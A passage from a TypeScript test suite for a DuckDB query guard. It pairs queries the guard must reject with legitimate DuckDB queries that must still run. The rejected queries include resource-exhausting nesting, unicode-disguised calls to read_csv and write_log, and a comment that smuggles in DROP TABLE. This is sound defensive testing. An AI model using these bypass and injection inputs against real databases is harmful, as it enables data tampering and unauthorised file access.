    name: '32 nested scalar subqueries',
    sql: `SELECT ${'(SELECT '.repeat(32)}1${')'.repeat(32)} AS x`,
    expected: 'depth',
  },
  {
    name: '200 nested abs()',
    sql: `SELECT ${'abs('.repeat(200)}lat${')'.repeat(200)} AS x FROM cells`,
    expected: 'depth',
  },
  {
    name: 'nested FROM subqueries 40 deep',
    sql: `SELECT * FROM ${'(SELECT * FROM '.repeat(40)}cells${') t'.repeat(40)}`,
    expected: 'depth',
  },
  {
    name: 'SQL over the length cap (a 120k-character IN list)',
    sql: `SELECT * FROM cells WHERE cell_id IN (${Array.from({ length: 20_000 }, (_, i) => 100_000 + i).join(',')})`,
    expected: 'length',
  },
  {
    name: 'SQL over the length cap (a long comment)',
    sql: `SELECT 1 AS x /* ${'x'.repeat(100_000)} */`,
    expected: 'length',
  },
  {
    name: 'SQL over the length cap (a long string)',
    sql: `SELECT '${'y'.repeat(100_001)}' AS s`,
    expected: 'length',
  },
  // ---- unicode and comment tricks on names ----
  { name: 'zero-width joiner inside read_csv', sql: "SELECT * FROM read\u200D_csv('x')", expected: 'text' },
  { name: 'Cyrillic a in write_log', sql: "SELECT write_lo\u0261('x') AS w", expected: 'text' },
  {
    name: 'fullwidth parenthesis after a function',
    sql: "SELECT write_log\uFF08'x') AS w",
    expected: 'text',
  },
  { name: 'soft hyphen in a table name', sql: 'SELECT * FROM private\u00AD_notes', expected: 'text' },
  { name: 'unterminated quoted name', sql: 'SELECT * FROM "weekly', expected: 'text' },
  { name: 'unicode escape identifier', sql: 'SELECT * FROM U&"\\0072ead_csv"(\'x\')', expected: 'function' },
  {
    name: 'nested comment hiding a second statement',
    sql: 'SELECT 1 /* a /* b */ ; DROP TABLE weekly */',
    expected: 'ran',
  },
  { name: 'tab and newline between name and (', sql: "SELECT write_log\t\n('x') AS w", expected: 'function' },
  { name: 'upper-case write_log', sql: "SELECT WRITE_LOG('x') AS w", expected: 'function' },
  { name: 'unknown function', sql: 'SELECT not_a_function(1) AS x', expected: 'function' },
  // ---- legit DuckDB syntax the guard must not misread (each must return rows) ----
  ...[
    'SELECT quantile_cont(abundance, [0.1, 0.5, 0.9]) AS q FROM weekly',
    'SELECT quantile_disc(abundance, 0.5) AS q, median(abundance) AS m FROM weekly',
    'SELECT approx_quantile(abundance, [0.25, 0.75]) AS q FROM weekly',
    'SELECT w.week, c.week AS prev FROM (SELECT DISTINCT week FROM weekly) w ASOF JOIN (SELECT DISTINCT week FROM weekly) c ON w.week >= c.week + 1',
    "SELECT COLUMNS('abun.*') FROM weekly LIMIT 3",
    "SELECT max(COLUMNS(c -> c LIKE '%abundance%')) FROM weekly",
    'SELECT min(COLUMNS(*)) FROM cells',
    'SELECT * EXCLUDE (date) FROM weekly LIMIT 2',
    'SELECT * REPLACE (round(abundance, 1) AS abundance) FROM weekly LIMIT 2',
    'SELECT * RENAME (lat AS latitude) FROM cells LIMIT 2',
    'SELECT *, lat AS y FROM cells LIMIT 2',
    'SELECT c.*, c.lat * 2 AS lat2 FROM cells AS c LIMIT 2',
    'SELECT c.* EXCLUDE (lon) FROM cells c LIMIT 2',
    'SELECT "temp", "system" FROM obs',
    'SELECT temp, system FROM obs WHERE temp > 10',
    'SELECT o."temp" + 1 AS t1, o.system FROM obs AS o',
    "SELECT avg(temp) AS mean_temp, string_agg(system, ',') AS systems FROM obs",
    "SELECT set_bit('0110'::BITSTRING, 0, 1) AS b",
    'SELECT list_transform([1, 2, 3], x -> x + 1) AS l',
    'SELECT list_filter([1, 2, 3], x -> x > 1) AS l, list_reduce([1, 2, 3], (a, b) -> a + b) AS r',
    'SELECT [x * 2 FOR x IN [1, 2, 3] IF x > 1] AS comprehension',
    "SELECT {'a': 1, 'b': {'c': 2}}.b.c AS nested, struct_pack(k := 1).k AS k",
    "SELECT s.a FROM (SELECT {'a': lat} AS s FROM cells) LIMIT 1",
    'WITH p(i, lon, lat) AS (VALUES (0, -85.0, 42.0), (1, -86.0, 43.0)) SELECT * FROM p',
    'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT * FROM n',
    'WITH a AS (SELECT 1 AS x), b(y) AS (SELECT x + 1 FROM a) SELECT * FROM a, b',
    'WITH m AS MATERIALIZED (SELECT week FROM weekly) SELECT count(*) FROM m',
    'SELECT week, avg(abundance) OVER (ORDER BY week ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) AS smooth FROM weekly LIMIT 5',
    'SELECT week, lag(week) OVER w AS prev, lead(week, 2) OVER w AS next2, row_number() OVER w AS r FROM (SELECT DISTINCT week FROM weekly) WINDOW w AS (ORDER BY week)',
    'SELECT cell_id, ntile(4) OVER (ORDER BY cell_id) AS quartile, percent_rank() OVER (ORDER BY cell_id) AS pr FROM cells',
    'SELECT species_code, week, abundance FROM weekly QUALIFY row_number() OVER (PARTITION BY species_code ORDER BY abundance DESC NULLS LAST) = 1',
    'PIVOT (SELECT species_code, week, abundance FROM weekly WHERE week <= 3) ON week IN (1, 2, 3) USING avg(abundance), max(abundance) GROUP BY species_code',
    'SELECT * FROM (SELECT species_code, week, abundance FROM weekly WHERE week < 3) PIVOT (avg(abundance) FOR week IN (1, 2))',
    'UNPIVOT (SELECT cell_id, lat, lon FROM cells) ON lat, lon INTO NAME coord VALUE v',
    "SELECT 'SELECT * FROM private_notes; DROP TABLE weekly' AS s, 'read_csv(''x'')' AS t, 'information_schema.tables' AS u",
    "SELECT 'from temp.main join system' AS s FROM species",
    "SELECT trim(BOTH 'x' FROM 'xabcx') AS t, substring('abcdef' FROM 2 FOR 3) AS s, extract(year FROM DATE '2023-06-14') AS y",
    "SELECT position('b' IN 'abc') AS p, strpos('abc', 'c') AS q",
    "SELECT * FROM species WHERE species_code IS DISTINCT FROM 'amerob'",
    "SELECT * FROM species WHERE species_code IS NOT DISTINCT FROM 'yebsap'",
    "SELECT CAST(lat AS DECIMAL(10, 3)) AS d, lon::VARCHAR(12) AS v, TRY_CAST('x' AS INTEGER) AS t FROM cells LIMIT 1",
    "SELECT make_timestamp(2023, 6, 14, 12, 0, 0) AS ts, date_trunc('month', DATE '2023-06-14') AS m, strftime(DATE '2023-06-14', '%b') AS b",
    'SELECT coalesce(abundance, 0) AS a, ifnull(abundance, -1) AS b, nullif(week, 1) AS c FROM weekly LIMIT 3',
    'SELECT week, count(*) FILTER (WHERE abundance IS NULL) AS not_modelled, count(*) FILTER (WHERE abundance = 0) AS absent FROM weekly GROUP BY ALL ORDER BY ALL LIMIT 3',
    'SELECT species_code, week, sum(abundance) FROM weekly GROUP BY GROUPING SETS ((species_code), (week)) LIMIT 5',
    'SELECT species_code, count(*) FROM weekly GROUP BY ROLLUP (species_code)',
    'SELECT unnest([1, 2, 3]) AS u',
    'SELECT * FROM unnest([1, 2]) t(x)',
    'SELECT * FROM range(1, 4) r(i) JOIN generate_series(1, 3) g(j) ON r.i = g.j',
    "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v(n, s)",
    'SELECT * FROM weekly w(sp, wk) LIMIT 1',
    'SELECT histogram(week) AS h FROM weekly',
    'SELECT arg_max(cell_id, abundance) AS best, max_by(cell_id, abundance) AS best2 FROM weekly',
    'SELECT random() < 2 AS r, uuid() IS NOT NULL AS u',
    'SELECT * FROM cells USING SAMPLE 5 ROWS',
    'SELECT * FROM cells TABLESAMPLE reservoir(3 ROWS)',
    'SELECT * FROM cells USING SAMPLE 50% (bernoulli, 7)',
    'SELECT w.week, c.lat FROM weekly w JOIN cells c USING (cell_id) WHERE w.week = 24 AND c.lat BETWEEN 40 AND 50 LIMIT 5',
    'SELECT * FROM weekly SEMI JOIN cells USING (cell_id) LIMIT 2',
    'SELECT * FROM cells ANTI JOIN (SELECT 0::BIGINT AS cell_id) z USING (cell_id) LIMIT 2',
    'SELECT * FROM cells, LATERAL (SELECT cells.lat * 2 AS double_lat) l LIMIT 2',
    'SELECT season_of_week(species_code, date_to_week(week_to_date(week))) AS s FROM weekly LIMIT 3',
    'SELECT distance_km(c.lat, c.lon, d.lat, d.lon) AS km FROM cells c, cells d WHERE c.cell_id = 0 LIMIT 3',
    'SELECT distance_km(distance_km(lat, 0, 0, 0), 0, distance_km(lat, 0, 0, 0), 0) AS d FROM cells LIMIT 1',
    "SELECT regexp_extract(common_name, '(\\w+)$', 1) AS last_word, common_name ILIKE '%robin%' AS is_robin FROM species",
    "SELECT list_sum([1, 2]) AS s, list_aggregate([1, 2], 'max') AS m, [1, 2, 3][2:3] AS sl",
    "SELECT map_from_entries([('a', 1)])['a'] AS m, MAP {'k': 1} AS mp",
    'SELECT lat FROM cells ORDER BY lat DESC NULLS LAST LIMIT 2 OFFSET 1',
    'SELECT DISTINCT ON (species_code) species_code, week FROM weekly ORDER BY species_code, week',
    'FROM cells SELECT cell_id, lat WHERE lat > 43',
    'SELECT * FROM weekly WHERE species_code = ANY (SELECT species_code FROM species) LIMIT 1',
    'SELECT EXISTS (SELECT 1 FROM species) AS e, 1 IN (1, 2) AS i',
    "SELECT CASE WHEN lat > 43 THEN 'north' ELSE 'south' END AS band, count(*) FROM cells GROUP BY 1",
    "SELECT greatest(1, 2) AS g, least(1, 2) AS l, round(pi(), 2) AS p, if(1 > 0, 'y', 'n') AS yn",
    'SELECT "comment" FROM (SELECT 1 AS "comment")',
    'SELECT t."load", t."show" FROM (SELECT 1 AS "load", 2 AS "show") AS t',
    'SELECT s.set FROM (SELECT 1 AS "set") s',
    "SELECT 'duckdb_tables' AS name",
    'SELECT columns.x FROM (SELECT 1 AS x) AS columns',
    'SELECT weekly.week FROM weekly ORDER BY weekly.week LIMIT 1',
    'SELECT count(*) AS n FROM weekly w INNER JOIN cells c ON (w.cell_id = c.cell_id)',
    "SELECT format('{} km', 3) AS f, printf('%d', 3) AS p, concat_ws('-', 'a', 'b') AS c",
    "SELECT week_to_date(24) AS d, date_to_week(DATE '2023-06-15') AS w",
    "SELECT bit_count(5) AS b, hash(1) IS NOT NULL AS h, md5('x') AS m",
    'SELECT * FROM species ORDER BY common_name COLLATE nocase',
  ].map((sql, index) => ({ name: `legit ${index + 1}: ${sql.slice(0, 60)}`, sql, expected: 'ran' as const })),
];

const OBS_CSV = 'cell_id,temp,system,note\n1,12.5,alpha,x\n2,13.1,beta,y\n3,9.0,gamma,z\n';
const HIDDEN_CSV = 'secret\nnever read me\n';

let engine: Engine;
beforeAll(async () => {
  const fixture = await makeTestCatalog();
  engine = await createNodeEngine({ dataDir: fixture.dir, limits: { maxRows: 10_000, timeoutMs: 20_000 } });
  for (const [name, csv] of [
    ['obs', OBS_CSV],
    ['hidden_upload', HIDDEN_CSV],
  ] as const) {
    await engine.addTable({
      name,
      format: 'csv',
      bytes: new TextEncoder().encode(csv),
      table: { ...fixture.catalog.tables.cells, name, columns: [] },
    });
  }
}, 60_000);
afterAll(async () => engine?.close());

describe('engine.query guard corpus', () => {
  it('has at least 300 cases, 40 of them legit, with unique names', () => {
    console.info(
      `[guard-corpus] ${GUARD_CORPUS.length} cases, ${GUARD_CORPUS.filter((c) => c.expected === 'ran').length} legit`,
    );
    expect(GUARD_CORPUS.length).toBeGreaterThanOrEqual(300);
    expect(GUARD_CORPUS.filter((item) => item.expected === 'ran').length).toBeGreaterThanOrEqual(40);
    expect(new Set(GUARD_CORPUS.map((item) => item.name)).size).toBe(GUARD_CORPUS.length);
  });

  it.each(GUARD_CORPUS)('$name → $expected', async ({ sql, expected }) => {
    const outcome = await engine.query(sql, { scope: SCOPE }).then(
      (result) => ({ ran: true as const, rows: result.rows }),
      (error: unknown) => ({ ran: false as const, error }),
    );
    if (expected === 'ran') {
      expect(outcome, JSON.stringify(outcome)).toMatchObject({ ran: true });
      expect((outcome as { rows: number }).rows).toBeGreaterThan(0);
      return;
    }
    expect(outcome.ran, `ran: ${sql.slice(0, 200)}`).toBe(false);
    const error = (outcome as { error: unknown }).error;
    expect(isEngineError(error), String(error)).toBe(true);
    expect(error).toMatchObject({
      code: 'sql_rejected',
      message: expect.stringMatching(/^sql_rejected: .+\. .+/),
    });
    expect((error as { message: string }).message).toMatch(REFUSALS[expected]);
  });

  it('leaves the tables intact after the whole corpus', async () => {
    const result = await engine.query('SELECT count(*) AS n FROM weekly', { scope: SCOPE });
    expect(Number(result.table.getChild('n')!.get(0))).toBe(2 * 52 * 40);
  });

  it('legit queries nest parentheses well under the cap', () => {
    const depths = GUARD_CORPUS.filter((item) => item.expected === 'ran').map((item) => {
      const lexed = lexSql(item.sql);
      if (!lexed.ok) throw new Error(lexed.problem);
      return readSqlShape(lexed.tokens, { isMacro: isMacroName, isSyntax: isSyntaxWord }).parenDepth;
    });
    console.info(`[guard-corpus] deepest legit parentheses: ${Math.max(...depths)} (cap ${MAX_PAREN_DEPTH})`);
    expect(Math.max(...depths)).toBeLessThan(MAX_PAREN_DEPTH);
  });

  it(`refuses a macro nest of ${MAX_MACRO_NESTING + 1} and runs one of ${MAX_MACRO_NESTING}`, async () => {
    await expect(
      engine.query(macroNest('distance_km', MAX_MACRO_NESTING), { scope: SCOPE }),
    ).resolves.toMatchObject({
      rows: 1,
    });
    await expect(
      engine.query(macroNest('distance_km', MAX_MACRO_NESTING + 1), { scope: SCOPE }),
    ).rejects.toMatchObject({
      code: 'sql_rejected',
      message: expect.stringContaining(
        `nests distance_km ${MAX_MACRO_NESTING + 1} deep; at most ${MAX_MACRO_NESTING}`,
      ),
    });
  });
});

describe('function allow-list', () => {
  let live: { name: string; type: string; sideEffects: boolean }[];
  let liveVersion: string;
  beforeAll(async () => {
    const instance = await startNodeDuckDB()();
    try {
      const connection = await instance.db.connect();
      const rows = (
        await connection.query(
          'SELECT function_name AS name, function_type AS type, coalesce(has_side_effects, false) AS side FROM duckdb_functions()',
        )
      ).toArray();
      live = rows.map((row) => ({
        name: String(row.name).toLowerCase(),
        type: String(row.type),
        sideEffects: Boolean(row.side),
      }));
      liveVersion = String((await connection.query('SELECT version() AS v')).toArray()[0].v);
    } finally {
      instance.worker.terminate();
    }
  }, 60_000);

  it('was generated from the engine we ship (regenerate with src/engine/generate-duckdb-functions.ts)', () => {
    expect(liveVersion).toBe(DUCKDB_VERSION);
    expect([...new Set(live.map((f) => f.name))].sort()).toEqual([...DUCKDB_FUNCTION_NAMES]);
  });

  it('holds only functions the live catalog has (window functions aside, which run below)', () => {
    const names = new Set(live.map((f) => f.name));
    const windowOnly = ALLOWED_SCALAR_FUNCTIONS.filter((name) => !names.has(name));
    for (const name of windowOnly) expect(WINDOW_FUNCTIONS as readonly string[], name).toContain(name);
    for (const name of ALLOWED_TABLE_FUNCTIONS)
      expect(live.some((f) => f.name === name && f.type === 'table')).toBe(true);
  });

  it('window functions on the list run in the engine', async () => {
    const query = `SELECT row_number() OVER w AS a, rank() OVER w AS b, dense_rank() OVER w AS c, rank_dense() OVER w AS d,
        percent_rank() OVER w AS e, cume_dist() OVER w AS f, ntile(2) OVER w AS g, lag(lat) OVER w AS h,
        lead(lat) OVER w AS i, first_value(lat) OVER w AS j, last_value(lat) OVER w AS k, nth_value(lat, 2) OVER w AS l
        FROM cells WINDOW w AS (ORDER BY cell_id)`;
    const result = await engine.query(query, { scope: SCOPE });
    expect(result.rows).toBe(40);
    for (const name of WINDOW_FUNCTIONS) expect(query, name).toContain(`${name}(`);
  });

  it('refuses every function DuckDB flags as having side effects, except the random generators', () => {
    const flagged = [...new Set(live.filter((f) => f.sideEffects).map((f) => f.name))];
    expect(flagged.length).toBeGreaterThanOrEqual(10);
    for (const name of flagged) {
      const check = checkSqlText(`SELECT ${name}() AS x`);
      if ((RANDOM_GENERATORS as readonly string[]).includes(name)) expect(check.ok, name).toBe(true);
      else
        expect(check, name).toMatchObject({
          ok: false,
          problem: expect.stringContaining(`${name}() is not allowed`),
        });
    }
  });

  it('refuses every table function but the row generators, in FROM', () => {
    const tables = [
      ...new Set(live.filter((f) => f.type === 'table' || f.type === 'table_macro').map((f) => f.name)),
    ];
    for (const name of tables) {
      const check = checkSqlText(`SELECT * FROM ${name}(1)`);
      expect(check.ok, name).toBe((ALLOWED_TABLE_FUNCTIONS as readonly string[]).includes(name));
    }
  });

  it("allows every function Perch's tools and macros call", () => {
    const sources = [
      ...sourceFiles('src/tools'),
      ...sourceFiles('src/worker'),
      'src/engine/engine-macros.ts',
    ];
    const snippets = [
      ...ENGINE_MACROS.map((macro) => macro.sql.replace(/^CREATE MACRO \w+\([^)]*\) AS/, 'SELECT')),
      ...sources.flatMap((file) => sqlLiterals(readFileSync(file, 'utf8'))),
    ];
    const called = new Set<string>();
    for (const sql of snippets) {
      const lexed = lexSql(sql);
      if (!lexed.ok) continue;
      for (const call of readSqlShape(lexed.tokens, { isMacro: isMacroName, isSyntax: isSyntaxWord }).calls) {
        expect(refuseCall(call), `${call.name}() in: ${sql.slice(0, 200)}`).toBeNull();
        called.add(call.name);
      }
    }
    console.info(`[guard-corpus] tools' SQL calls ${called.size} distinct functions, all allowed`);
    expect(called.size).toBeGreaterThan(20);
    for (const macro of ENGINE_MACROS)
      expect(checkSqlText(`SELECT ${macro.name}(1) AS x`).ok, macro.name).toBe(true);
  });
});

function sourceFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((entry) => {
    const path = join(dir, entry);
    if (statSync(path).isDirectory()) return sourceFiles(path);
    return path.endsWith('.ts') && !path.endsWith('.test.ts') ? [path] : [];
  });
}

/** Template and quoted literals that read as SQL, with `${…}` interpolations replaced by a number. */
function sqlLiterals(source: string): string[] {
  const literals = [...source.matchAll(/`((?:[^`\\]|\\.)*)`|'((?:[^'\\\n]|\\.)*)'/g)].map((match) =>
    (match[1] ?? match[2]).replace(/\$\{[^{}]*(?:\{[^{}]*\}[^{}]*)*\}/g, '1'),
  );
  return literals.filter((text) => /\bSELECT\b[\s\S]*\bFROM\b|\bWITH\b[\s\S]*\bAS\s*\(/i.test(text));
}
